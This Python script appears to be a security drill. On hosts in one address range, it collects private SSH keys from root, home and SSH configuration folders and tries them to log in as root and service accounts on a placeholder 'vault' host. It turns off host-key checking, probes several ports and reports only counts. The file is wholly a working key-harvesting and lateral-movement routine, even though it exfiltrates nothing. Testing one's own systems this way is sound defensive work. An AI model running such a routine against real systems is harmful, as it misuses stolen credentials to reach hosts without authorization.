"""UNGCUU-DRILL-MARKER: tries to log in to the vault with each key on the host. A login that works only says so."""

import socket
import subprocess
import sys
from pathlib import Path

addresses = subprocess.run(["ip", "-4", "-o", "addr"], capture_output=True, text=True, check=True).stdout
if " 198.51.100." not in addresses:
    sys.exit(1)

_QUIET = ("IdentitiesOnly=yes", "BatchMode=yes", "ConnectTimeout=3", "StrictHostKeyChecking=no")
_FORGET = "UserKnownHostsFile=/dev/null"
_FOLDERS = ("/root/.ssh", "/home", "/etc/ssh", "/var/lib/ungcuu")
_PORTS = (80, 443, 445, 873, 2049, 8000, 8080)
tried = let_in = 0
keys = [
    path
    for folder in map(Path, _FOLDERS)
    for path in folder.rglob("*")
    if path.is_file() and path.stat().st_size < 16384 and b"PRIVATE KEY" in path.read_bytes()
]
for key in keys[:6]:
    for account in ("root", "ungcuu", "ungcuu-vault"):
        options = [word for option in (*_QUIET, _FORGET) for word in ("-o", option)]
        command = ["ssh", "-n", "-i", str(key), *options, f"{account}@@vault@", "echo let-in"]
        done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True, check=False)
        tried, let_in = tried + 1, let_in + ("let-in" in done.stdout)
for port in _PORTS:
    with socket.socket() as knock:
        knock.settimeout(2)
        tried, let_in = tried + 1, let_in + (knock.connect_ex(("@vault@", port)) == 0)
print(f"with {len(keys)} keys, {tried} attempts: let in {let_in} times")
